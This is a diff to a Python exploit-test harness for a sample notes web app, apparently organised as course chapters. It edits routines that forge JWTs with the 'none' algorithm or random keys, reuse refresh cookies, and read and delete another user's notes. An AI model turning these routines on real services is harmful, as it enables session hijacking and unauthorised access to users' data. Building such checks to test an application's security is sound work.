@@ -125,6 +125,8 @@ class Visit:
     notes: str = "/notes/"
     text: str = "text"
     scope: str = "notes"
+    cookie: str = "session"
+    cookie_is_used_up: bool = True
     origins: tuple[str, ...] = (
         "https://notes.example",
         "https://beta.notes.example",
@@ -209,14 +211,15 @@ class Visit:
 
     async def begin_session(self, user: User) -> str:
         """Log in at the page, and return the cookie."""
-        begun = served(await self.login(user, "/session/"))
-        return cookie_in(begun)
+        return cookie_in(await self.login(user, "/session/"))
 
     async def session(
         self, cookie: str, headers: dict[str, str] | None = None
     ) -> httpx.Response:
         """Ask for an access token, as the page does with its cookie."""
-        sent = {"Cookie": f"session={cookie}"} | FROM_PAGE | (headers or {})
+        sent = (
+            {"Cookie": f"{self.cookie}={cookie}"} | FROM_PAGE | (headers or {})
+        )
         return await self.send("GET", "/session/", headers=sent)
 
 
@@ -248,16 +251,23 @@ def exploit(chapter: int) -> Callable[[Exploit], Exploit]:
     return register
 
 
+def claims_of(token: str) -> Json:
+    """Read a token without its key; of what is no JWT, return no claims."""
+    try:
+        claims: Json = jwt.decode(token, options={"verify_signature": False})
+    except jwt.DecodeError:
+        return {}
+    return claims
+
+
 @exploit(1)
 async def forge_a_logout(visit: Visit) -> bool:
     """Log another user out with a token that mallory has written."""
     victim = await visit.new_user()
     tokens = await visit.pair(victim)
     access, refresh = tokens["access_token"], tokens["refresh_token"]
-    claims = {"sub": victim.name}
     for token in (access, refresh):
-        read = jwt.decode(token, options={"verify_signature": False})
-        claims = read | claims | {"jti": "forged"}
+        claims = claims_of(token) | {"sub": victim.name, "jti": "forged"}
         unsigned = jwt.encode(claims, "", "none")
         for forged in (
             jwt.encode(claims, secrets.token_bytes(32), "HS256"),
@@ -402,7 +412,8 @@ async def use_a_refresh_token_again(visit: Visit) -> bool:
             return True
     cookie = await visit.begin_session(user)
     served(await visit.session(cookie))
-    return (await visit.session(cookie)).status_code == 200
+    again = await visit.session(cookie)
+    return visit.cookie_is_used_up and again.status_code == 200
 
 
 @exploit(9)
@@ -513,8 +524,9 @@ async def read_from_a_foreign_page(visit: Visit) -> bool:
 async def touch_another_users_notes(visit: Visit) -> bool:
     """Read and delete a note of another user's, and find out which exist."""
     victim, mallory = await visit.new_user(), await visit.new_user()
-    theirs = (await visit.pair(victim))["access_token"]
-    ours = (await visit.pair(mallory))["access_token"]
+    scope = visit.scope
+    theirs = (await visit.pair(victim, scope=scope))["access_token"]
+    ours = (await visit.pair(mallory, scope=scope))["access_token"]
     path = await visit.add_note(theirs)
     gone = await visit.add_note(ours)
     served(await visit.send("DELETE", gone, token=ours), 204)
